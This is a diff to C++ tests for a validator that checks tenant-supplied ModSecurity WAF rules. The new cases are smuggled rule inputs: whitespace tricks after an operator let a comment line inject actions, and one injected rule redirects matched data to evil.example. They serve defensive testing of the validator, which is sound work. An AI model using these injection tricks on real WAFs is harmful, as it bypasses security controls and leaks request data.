@@ -502,7 +502,7 @@ TEST_CASE("waf_directives accepts tenant rules") {
       {"# only a comment\n\n   # another\n"},
       {R"(SecRule ARGS "@rx foo" "id:1,phase:2,deny,status:403")"},
       {R"(SecRule REQUEST_URI "@beginsWith /admin" "id:99999,phase:request,deny")"},
-      {R"(SecRule ARGS "@rx a" "id:'7',phase:'2',block")"},
+      {R"(SecRule ARGS "@rx a" "id:'7',phase:2,block")"},
       {R"(secrule ARGS "!@rx ^[a-z]+$" "id:2,phase:1,deny")"},
       {R"(SecRule &ARGS "@eq 0" "id:3,phase:2,pass,nolog")"},
       {R"(SecRule ARGS|!ARGS:password|REQUEST_HEADERS:User-Agent "@detectSQLi" "id:4,deny,log,auditlog")"},
@@ -826,6 +826,28 @@ TEST_CASE("waf_directives refuses operators, actions and quotes the engine reads
        "must put the actions in double quotes"},
       {R"(SecRule ARGS "@within" "id:1,deny")", "needs a parameter after @within"},
       {R"(SecRule ARGS "@rx " "id:1,deny")", "needs a parameter after @rx"},
+      // After an operator, the engine dropped everything up to the next space: the rule's own
+      // actions and the quote, so a comment line gave rule 1 its actions and ran directives.
+      {"SecRule ARGS \"@rx\tz\"\t\"id:1,phase:2,pass,setvar:tx.blocked=1\"\n"
+       "#\t\"x y\"\t\"id:1,phase:2,pass,setvar:global.blocked=1\"",
+       "needs one space after @rx"},
+      {"SecRule ARGS \"@containsq\tz\"\t\"id:1,phase:2,pass,setvar:tx.blocked=1\"\n"
+       "#\t\"x y\"\t\"id:1,phase:2,pass,setvar:global.blocked=1\"",
+       "needs a known operator, not @containsq"},
+      {"SecRule ARGS \"@rx\tz\"\t\"id:1,phase:2,pass\"\nSecAction\t\"id:2,phase:1,pass,nolog\"\n"
+       "#\t\"x y\"\t\"id:1,phase:2,pass\" SecRule ENV:PATH \"@rx .\" "
+       "\"id:2,phase:1,log,redirect:'http://evil.example/?%{MATCHED_VAR}'\"",
+       "needs one space after @rx"},
+      {"SecRule ARGS \"@rx\tz\"\t\"id:1,phase:2,pass\"\n#\t\"x y\"\t\"id:1,phase:2,pass\" "
+       "SecMarker\tEND",
+       "needs one space after @rx"},
+      {R"(SecRule ARGS "@rx,a" "id:1,deny")", "needs one space after @rx"},
+      {R"(SecRule ARGS "@noSuchOperator a" "id:1,deny")", "needs a known operator"},
+      {R"(SecRule ARGS "@ a" "id:1,deny")", "needs a known operator"},
+      {R"(SecRule ARGS "@detectSQLi x" "id:1,deny")", "must not give @detectSQLi a parameter"},
+      {R"(SecRule ARGS "@detectSQLi\t" "id:1,deny")", "must not give @detectSQLi a parameter"},
+      // The engine reads phase:'request' as allow.
+      {R"(SecRule ARGS "@rx a" "id:1,deny,phase:'request'")", "must not quote the value of phase"},
   };
   for (const auto& r : bad) {
     CAPTURE(r.in);
@@ -838,7 +860,7 @@ TEST_CASE("waf_directives refuses operators, actions and quotes the engine reads
 // can differ from the scan's, and the audit must refuse it.
 TEST_CASE("waf_directives' audit refuses an engine view the scan did not see") {
   waf::ScanResult one_rule;
-  one_rule.rules = {{1, {waf::LinkActions{}}}};
+  one_rule.rules = {{1, {waf::LinkActions{.line = 1}}}};
   one_rule.directives = 1;
   const Bad bad[] = {
       // A ctl the policy refuses, in the engine's own copy of it.
@@ -875,6 +897,8 @@ TEST_CASE("waf_directives' audit refuses an engine view the scan did not see") {
        "could not be read unambiguously"},
       {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateTargetById 1 ARGS",
        "could not be read unambiguously"},
+      // The rule starts on another line than the scan read it from.
+      {"\nSecRule ARGS \"@rx a\" \"id:1,pass\"", "could not be read unambiguously"},
   };
   for (const auto& r : bad) {
     CAPTURE(r.in);
